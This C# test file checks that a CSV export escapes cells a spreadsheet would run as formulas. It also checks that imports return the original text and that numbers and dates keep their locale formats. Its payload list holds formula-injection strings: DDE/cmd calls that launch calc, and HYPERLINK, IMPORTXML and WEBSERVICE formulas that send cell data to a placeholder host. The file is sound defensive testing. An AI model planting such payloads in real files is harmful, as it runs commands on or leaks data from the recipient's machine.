using System.Globalization;
using System.Text;
using EPM.Platform.Documents;
using EPM.Sales.Imports.Reading;

namespace EPM.Modules.Tests.Documents;

/// <summary>No export holds a cell that a spreadsheet would run, and what comes back through an import is what went out (TRUST T15).</summary>
public sealed class CsvExportTests
{
    private static readonly string[] Payloads =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\0=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x.test?\"&A1,\"ok\")", "=IMPORTXML(CONCAT(\"http://x.test/\",A1),\"//a\")", "=WEBSERVICE(\"http://x.test\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "'=1+1", "''=1+1", "'+1", "'hello", "''", " =1+1", "  @x", "\u00a0=1+1", "\uFEFF=1+1", "\n=1+1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20x",
        "a;=1+1", "a,=1+1", "a\t=1+1", "\"=1+1", "\";=1+1;\"", "a\r\n=1+1", "-", "=", "+221 77 000 00 00", "-12.5e3", "--5", "1-1=0", "-5", "-1234,50",
    ];

    [Theory]
    [InlineData("fr", ';')]
    [InlineData("en", ',')]
    public async Task Every_payload_is_text_to_a_spreadsheet_and_comes_back_as_it_was(string language, char separator)
    {
        Payloads.Length.ShouldBeGreaterThanOrEqualTo(40);
        var file = await CsvExport.FileAsync(language, ["n", "text", "behind"], Payloads.Select((payload, i) => new object?[] { i, payload, "x" }));
        file.AsSpan(0, 3).SequenceEqual(Encoding.UTF8.Preamble).ShouldBeTrue();
        var text = Encoding.UTF8.GetString(file.AsSpan(3));
        Spreadsheet.Cells(text, separator).Where(Spreadsheet.Runs).ShouldBeEmpty();
        var back = Spreadsheet.Rows(text, separator).Skip(1).Select(row => CellText.Unguard(row[1]).ToString());
        back.ShouldBe(Payloads);
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("@SUM(1)")]
    [InlineData("'=1+1")]
    [InlineData("+221 77 000 00 00")]
    [InlineData("-")]
    [InlineData("a;=1+1")]
    [InlineData("\";=1+1;\"")]
    [InlineData("'hello")]
    public async Task The_reader_of_imports_gives_the_text_back(string payload)
    {
        var file = await CsvExport.FileAsync("fr", ["text", "behind"], [[payload, "x"]]);
        var reader = new DelimitedReader(new StringReader(Encoding.UTF8.GetString(file.AsSpan(3))), ';');
        reader.Next().ShouldBeTrue();
        reader.Next().ShouldBeTrue();
        reader.Field(0).ToString().ShouldBe(payload);
    }

    [Fact]
    public async Task Numbers_stay_numbers_in_the_readers_language_and_dates_are_iso()
    {
        object?[] row = [-5, -12.5m, 1234.5m, null, new DateOnly(2026, 2, 1), new DateTimeOffset(2026, 2, 1, 10, 0, 0, TimeSpan.FromHours(1)), "-7"];
        (await TextAsync("en")).ShouldBe("-5,-12.5,1234.5,,2026-02-01,2026-02-01T09:00:00.000000Z,-7");
        (await TextAsync("fr")).ShouldBe("-5;\"-12,5\";\"1234,5\";;2026-02-01;2026-02-01T09:00:00.000000Z;-7");

        async Task<string> TextAsync(string language) => Encoding.UTF8.GetString((await CsvExport.FileAsync(language, [], [row])).AsSpan(3)).Trim();
    }

    /// <summary>What Excel and LibreOffice do with a CSV file, as far as formulas go: fields first, then what a field begins with.</summary>
    private static class Spreadsheet
    {
        public static IEnumerable<string> Cells(string text, char separator) => Rows(text, separator).SelectMany(row => row);

        public static bool Runs(string cell)
        {
            var first = cell.TrimStart([' ', '\t', '\r', '\n', '\0', '\u00a0', '\uFEFF']);
            return first.Length > 0 && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".Contains(first[0], StringComparison.Ordinal)
                && !decimal.TryParse(first.Replace(',', '.'), NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture, out _);
        }

        public static List<List<string>> Rows(string text, char separator)
        {
            var (rows, row, field, quoted) = (new List<List<string>>(), new List<string>(), new StringBuilder(), false);
            for (var i = 0; i < text.Length; i++)
            {
                var c = text[i];
                if (quoted && c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                    field.Append(text[++i]);
                else if (c == '"' && (quoted || field.Length == 0))
                    quoted = !quoted;
                else if (!quoted && (c == separator || (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n')))
                {
                    row.Add(field.ToString());
                    field.Clear();
                    if (c == separator)
                        continue;
                    i++;
                    rows.Add(row);
                    row = [];
                }
                else
                    field.Append(c);
            }
            return rows;
        }
    }
}
